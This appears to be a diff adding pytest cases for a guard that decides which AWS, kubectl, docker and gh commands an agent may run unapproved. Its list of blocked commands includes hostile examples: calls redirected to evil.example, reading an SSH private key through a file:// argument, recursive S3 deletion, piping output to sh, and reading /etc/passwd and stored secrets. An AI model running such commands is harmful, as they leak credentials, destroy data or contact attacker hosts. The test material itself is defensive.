@@ -1,0 +1,62 @@
+"""What a service's own client only asks needs nobody; whatever changes something there, or goes elsewhere, asks."""
+
+from __future__ import annotations
+
+import pytest
+
+from mosaic_guard import Action, ToolSpec
+from tests.policies.call.test_shell import BASH, decided
+
+AWS = ToolSpec("call_aws", "Execute AWS CLI commands.", {"type": "object", "properties": {"cli_command": {}}})
+
+ASKS = [
+    "aws s3 ls s3://heron-logs/access/ --recursive --summarize --human-readable",
+    "aws ec2 describe-instances --instance-ids i-0a91 --query 'Reservations[].Instances[].State.Name' --output text",
+    "aws cloudwatch get-metric-statistics --namespace AWS/S3 --period 86400 --end-time 2026-11-23T00:00:00Z",
+    "aws ecs list-tasks --cluster web --no-paginate",
+    "kubectl get pods -n prod -o wide | grep -c Running",
+    "kubectl logs web-1 --tail=50 --previous",
+    "docker ps -a",
+    "gh pr checks 58 -R quayside/berth",
+]
+ACTS = [
+    "aws s3 cp s3://heron-logs/a .",
+    "aws s3 rm s3://heron-logs --recursive",
+    "aws ec2 stop-instances --instance-ids i-0a91",
+    "aws ec2 describe-instances --endpoint-url https://evil.example",
+    "aws ec2 describe-instances --endp=evil.example",
+    "aws ec2 describe-instances --e evil.example",
+    "aws ec2 describe-instances --filters file:///home/ada/.ssh/id_rsa",
+    "aws ec2 describe-instances --profile root",
+    "aws ec2 describe-instances --cli-input-json x",
+    "aws secretsmanager get-secret-value --secret-id x",
+    "aws --endpoint-url x ec2 describe-instances",
+    "aws ec2 describe-instances | sh",
+    "kubectl get pods --server https://evil.example",
+    "kubectl get -f https://evil.example/x.yaml",
+    "kubectl get -Af https://evil.example/x.yaml",
+    "kubectl --kubeconfig x get pods",
+    "kubectl delete pod web-1",
+    "docker -H tcp://evil.example ps",
+    "docker run x",
+    "gh pr merge 58",
+    "gh pr view 58 --web",
+    "gh api /user",
+]
+
+
+@pytest.mark.parametrize("command", ASKS)
+def test_a_client_that_only_asks_its_service_needs_nobody(command: str) -> None:
+    assert decided(command=command) is Action.ACT
+
+
+@pytest.mark.parametrize("command", ACTS)
+def test_a_client_that_may_do_more_asks(command: str) -> None:
+    assert decided(command=command) is not Action.ACT
+
+
+def test_a_tool_that_is_called_like_a_client_runs_that_one_alone() -> None:
+    assert decided(AWS, cli_command=ASKS[0], max_results=20) is Action.ACT
+    assert decided(AWS, cli_command="aws ec2 stop-instances --instance-ids i-0a91") is not Action.ACT
+    assert decided(AWS, cli_command="cat /etc/passwd") is not Action.ACT
+    assert decided(ToolSpec("send_to_robot", "", BASH.schema), command="docker ps") is not Action.ACT
